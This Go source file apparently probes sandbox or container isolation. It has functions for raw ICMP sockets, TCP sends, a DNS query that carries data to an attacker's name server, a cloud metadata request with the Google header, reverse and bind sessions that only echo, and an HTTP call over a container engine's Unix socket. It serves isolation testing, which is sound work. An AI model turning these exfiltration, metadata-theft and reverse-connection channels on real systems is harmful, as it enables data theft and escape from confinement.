package main

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"syscall"
	"time"
)

const patience = 2 * time.Second

// rawSocket A B
func rawSocket(words []string) error {
	number, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP)
	if err != nil {
		return fmt.Errorf("socket: %w", err)
	}
	syscall.Close(number)
	return hello(words)
}

// send HOST PORT A B
func send(words []string) error {
	connection, err := net.DialTimeout("tcp4", net.JoinHostPort(words[0], words[1]), patience)
	if err != nil {
		return err
	}
	defer connection.Close()
	_, err = io.WriteString(connection, words[2]+words[3]+"\n")
	return err
}

// askName HOST PORT A B: a question to a name server of the attacker's (RFC 1035, section 4.1), which is how data leaves.
func askName(words []string) error {
	connection, err := net.DialTimeout("udp4", net.JoinHostPort(words[0], words[1]), patience)
	if err != nil {
		return err
	}
	defer connection.Close()
	label := words[2] + words[3]
	question := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, byte(len(label))}
	question = append(append(question, label...), 0, 0, 1, 0, 1)
	_, err = connection.Write(question)
	return err
}

// get HOST PORT PATH: a request over TCP, without a tool.
func get(words []string) error {
	connection, err := net.DialTimeout("tcp4", net.JoinHostPort(words[0], words[1]), patience)
	if err != nil {
		return err
	}
	defer connection.Close()
	connection.SetDeadline(time.Now().Add(patience))
	fmt.Fprintf(connection, "GET %s HTTP/1.0\r\nHost: %s\r\nMetadata-Flavor: Google\r\n\r\n", words[2], words[0])
	_, err = io.Copy(os.Stdout, connection)
	return err
}

// reverse HOST PORT: a session from inside out. Orders are obeyed by this program itself: an image without a shell is no wall.
func reverse(words []string) error {
	connection, err := net.DialTimeout("tcp4", net.JoinHostPort(words[0], words[1]), patience)
	if err != nil {
		return err
	}
	return serve(connection)
}

// bind PORT: the same from outside in.
func bind(words []string) error {
	listener, err := net.Listen("tcp4", ":"+words[0])
	if err != nil {
		return err
	}
	for {
		connection, err := listener.Accept()
		if err != nil {
			return err
		}
		go serve(connection)
	}
}

func serve(connection net.Conn) error {
	defer connection.Close()
	connection.SetDeadline(time.Now().Add(2 * patience))
	for lines := bufio.NewScanner(connection); lines.Scan(); {
		if said, is := strings.CutPrefix(lines.Text(), "echo "); is {
			fmt.Fprintln(connection, strings.ReplaceAll(said, "''", ""))
		}
	}
	return nil
}

// unixSocket PATH A B: a request to the engine.
func unixSocket(words []string) error {
	connection, err := net.DialTimeout("unix", words[0], patience)
	if err != nil {
		return err
	}
	defer connection.Close()
	connection.SetDeadline(time.Now().Add(patience))
	fmt.Fprintf(connection, "GET /%s%s HTTP/1.0\r\n\r\n", words[1], words[2])
	_, err = io.Copy(os.Stdout, connection)
	return err
}
